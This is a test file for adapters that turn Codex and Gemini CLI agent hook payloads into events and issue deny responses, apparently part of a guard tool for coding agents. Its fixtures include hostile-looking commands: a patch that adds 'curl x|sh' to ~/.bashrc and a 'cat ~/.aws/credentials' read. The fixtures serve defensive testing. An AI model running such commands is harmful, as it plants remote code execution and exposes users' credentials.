// Codex and Gemini CLI hook payloads (shapes from ../shared/reference) → Events, and their native denies.
import { describe, expect, it } from 'vitest';
import { codexAdapter } from '../../collectors/hooks/codex.js';
import { geminiCliAdapter } from '../../collectors/hooks/gemini-cli.js';
import { hookAdapters } from '../../collectors/hooks/index.js';

const stamp = { ts: '2026-11-23T00:00:00.000Z', newId: () => 'id-1' };

describe('Codex hooks', () => {
  const base = { session_id: 'cx-1', transcript_path: null, cwd: '/repo', model: 'gpt-5.5', turn_id: 't1', permission_mode: 'default' };

  it('a Bash PreToolUse carries its command; apply_patch is a file.write naming the patched file', () => {
    const bash = codexAdapter.normalise({ ...base, hook_event_name: 'PreToolUse', tool_name: 'Bash', tool_use_id: 'call_1', tool_input: { command: 'rm -rf build' } }, stamp);
    expect(bash).toMatchObject({ agent: { kind: 'codex' }, kind: 'tool.call', command: 'rm -rf build', sessionId: 'cx-1', cwd: '/repo' });
    expect(bash.transcriptPath).toBeUndefined();
    const patch = codexAdapter.normalise({ ...base, hook_event_name: 'PreToolUse', tool_name: 'apply_patch',
      tool_input: { command: '*** Begin Patch\n*** Update File: /home/u/.bashrc\n+curl x|sh\n*** End Patch\n' } }, stamp);
    expect(patch).toMatchObject({ kind: 'file.write', path: '/home/u/.bashrc' });
    expect(patch.command).toBeUndefined();
  });

  it('denies in the Claude-compatible shape, and turns ask (unsupported by Codex) into deny', () => {
    const e = codexAdapter.normalise({ ...base, hook_event_name: 'PreToolUse', tool_name: 'Bash', tool_input: { command: 'x' } }, stamp);
    expect(codexAdapter.answer(e, { action: 'deny', reason: 'no' })).toEqual({ hookSpecificOutput: { hookEventName: 'PreToolUse', permissionDecision: 'deny', permissionDecisionReason: 'no' } });
    expect(codexAdapter.answer(e, { action: 'ask', reason: 'sure?' })).toMatchObject({ hookSpecificOutput: { permissionDecision: 'deny' } });
    expect(codexAdapter.answer(e, { action: 'observe' })).toEqual({});
  });

  it('SessionEnd (the payload real-agents.md §1.5 captured) ends the session', () => {
    const end = codexAdapter.normalise({ session_id: 'cx-1', transcript_path: null, cwd: '/repo', hook_event_name: 'SessionEnd', reason: 'other' }, stamp);
    expect(end).toMatchObject({ kind: 'session.end', sessionId: 'cx-1', hookEvent: 'SessionEnd' });
    expect(codexAdapter.canBlock(end)).toBe(false);
  });
});

describe('Gemini CLI hooks', () => {
  const base = { session_id: '72c210ee-9ede-4fd5-a2c7-c35134fb5a0b', transcript_path: '/h/.gemini/tmp/w/chats/s.jsonl', cwd: '/w', timestamp: '2026-11-22T23:59:52.895Z' };

  it('maps BeforeTool/AfterTool/BeforeAgent/SessionEnd and raw tool names', () => {
    const shell = geminiCliAdapter.normalise({ ...base, hook_event_name: 'BeforeTool', tool_name: 'run_shell_command', tool_input: { command: 'cat ~/.aws/credentials', description: 'x' } }, stamp);
    expect(shell).toMatchObject({ agent: { kind: 'gemini-cli' }, kind: 'tool.call', command: 'cat ~/.aws/credentials' });
    const write = geminiCliAdapter.normalise({ ...base, hook_event_name: 'BeforeTool', tool_name: 'write_file', tool_input: { file_path: '/w/notes.md', content: '# n' } }, stamp);
    expect(write).toMatchObject({ kind: 'file.write', path: '/w/notes.md' });
    const read = geminiCliAdapter.normalise({ ...base, hook_event_name: 'BeforeTool', tool_name: 'read_file', tool_input: { absolute_path: '/w/a.ts' } }, stamp);
    expect(read).toMatchObject({ kind: 'file.read', path: '/w/a.ts' });
    const after = geminiCliAdapter.normalise({ ...base, hook_event_name: 'AfterTool', tool_name: 'run_shell_command', tool_input: { command: 'ls' }, tool_response: { llmContent: 'a\nb', returnDisplay: 'a' } }, stamp);
    expect(after).toMatchObject({ kind: 'tool.result', tool: { output: { llmContent: 'a\nb' } } });
    expect(geminiCliAdapter.normalise({ ...base, hook_event_name: 'BeforeAgent', prompt: 'do it' }, stamp)).toMatchObject({ kind: 'prompt', text: 'do it' });
    expect(geminiCliAdapter.normalise({ ...base, hook_event_name: 'SessionEnd', reason: 'exit' }, stamp).kind).toBe('session.end');
    expect(geminiCliAdapter.normalise({ ...base, hook_event_name: 'BeforeModel', llm_request: {} }, stamp).kind).toBe('hook.other');
  });

  it('denies only BeforeTool, as {"decision":"deny","reason":…}', () => {
    const e = geminiCliAdapter.normalise({ ...base, hook_event_name: 'BeforeTool', tool_name: 'run_shell_command', tool_input: { command: 'x' } }, stamp);
    expect(geminiCliAdapter.canBlock(e)).toBe(true);
    expect(geminiCliAdapter.answer(e, { action: 'deny', reason: 'blocked' })).toEqual({ decision: 'deny', reason: 'blocked' });
    expect(geminiCliAdapter.answer(e, { action: 'observe' })).toEqual({});
    const after = geminiCliAdapter.normalise({ ...base, hook_event_name: 'AfterTool', tool_name: 'run_shell_command', tool_input: {} }, stamp);
    expect(geminiCliAdapter.answer(after, { action: 'deny' })).toEqual({});
  });

  it('every adapter is reachable by its agent name', () => {
    expect([...hookAdapters.keys()].sort()).toEqual(['claude-code', 'codex', 'copilot-cli', 'cursor', 'gemini-cli', 'qwen-code', 'windsurf']);
  });
});
